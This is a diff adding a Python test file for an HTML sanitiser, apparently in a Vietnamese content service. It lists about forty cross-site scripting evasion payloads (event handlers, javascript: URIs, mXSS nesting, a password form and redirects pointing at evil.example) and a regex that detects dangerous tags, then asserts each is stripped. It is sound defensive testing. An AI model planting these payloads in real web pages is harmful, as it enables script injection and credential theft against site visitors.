@@ -1,0 +1,95 @@
+"""What is let through of an editor's text, and what is not: a corpus of ways in which scripts hide."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from svc_content.rich_text.plain import plain_text
+from svc_content.rich_text.sanitiser import TAGS, sanitised
+
+# Kinds after the OWASP list of filter evasions; written anew for this file.
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='/v1/media/fil_01ARZ3NDEKTSV4RRFFQ69G5FAV' onload=alert(1)>",
+    "<img src=javascript:alert(1)>",
+    "<img src='https://evil.example/who-reads.png'>",
+    "<img src='//evil.example/x.png'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
+    "<a href='java&#10;script:alert(1)'>x</a>",
+    "<a href=' &#14; javascript:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<svg onload=alert(1)><circle/></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<iframe src='https://evil.example'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='x.swf'></object><embed src='x.swf'>",
+    "<form action='https://evil.example'><input name=password><button>Gửi</button></form>",
+    "<style>body{background:url(javascript:alert(1))}</style>",
+    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
+    "<p class='overlay' id='login'>x</p>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href='https://evil.example/'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<video src=x onerror=alert(1)></video>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<body onload=alert(1)>x</body>",
+    "<<script>alert(1)//<</script>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<template><script>alert(1)</script></template>",
+    "<p><![CDATA[<script>alert(1)</script>]]></p>",
+    "<a href='https://ok.example' target=_blank onclick=alert(1)>x</a>",
+    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
+    "<input autofocus onfocus=alert(1)>",
+    "<p>\u202egnp.exe</p><script\x00>alert(1)</script>",
+]
+_RUNS = re.compile(
+    r"<\s*/?(?:script|style|iframe|object|embed|svg|math|form|input|base|meta|link|template)\b|\bon\w+\s*=|javascript:|vbscript:|data:|evil\.example/(?:x|who)|style=|class=|srcdoc",
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_that_could_run_is_left(attack: str) -> None:
+    clean = sanitised(f"<p>Trước</p>{attack}<p>Sau</p>")
+    assert "Trước" in clean
+    tags = re.findall(r"<[^>]*>", clean)
+    assert not [tag for tag in tags if _RUNS.search(tag)], clean
+    assert {tag.strip("</ >").split()[0] for tag in tags} <= TAGS
+    assert sanitised(clean) == clean
+
+
+@given(st.text(st.sampled_from("<>/=\"' aimgsrcphtonxjv:&#;-!"), max_size=120))
+def test_cleaning_twice_changes_nothing(text: str) -> None:
+    once = sanitised(text)
+    assert sanitised(once) == once
+
+
+def test_what_an_article_needs_stays() -> None:
+    html = (
+        '<h2>Lịch tiêm</h2><p><strong>Thứ Hai</strong>: xem <a href="https://syt.quangngai.gov.vn" '
+        'rel="noopener noreferrer nofollow">thông báo</a>.</p><ul><li>Trẻ em</li></ul>'
+        '<table><tbody><tr><th scope="row">Trạm</th><td>7 giờ</td></tr></tbody></table>'
+        '<img src="/v1/media/fil_01ARZ3NDEKTSV4RRFFQ69G5FAV" alt="Trạm y tế">'
+    )
+    assert sanitised(html) == html
+
+
+def test_the_plain_text_reads_as_it_is_spoken() -> None:
+    html = (
+        "<h2>Lịch tiêm</h2><p>Mang theo:</p><ul><li>Sổ &amp; thẻ</li><li>CCCD</li></ul>"
+        '<p>Hẹn<br>gặp</p><img alt="Trạm">'
+    )
+    assert plain_text(html) == "Lịch tiêm\nMang theo:\n- Sổ & thẻ\n- CCCD\nHẹn\ngặp\nHình: Trạm."
+
+
+@given(st.text(max_size=200))
+def test_any_text_has_a_plain_form(text: str) -> None:
+    assert "<script" not in plain_text(sanitised(f"<p>{text}</p><script>{text}</script>"))
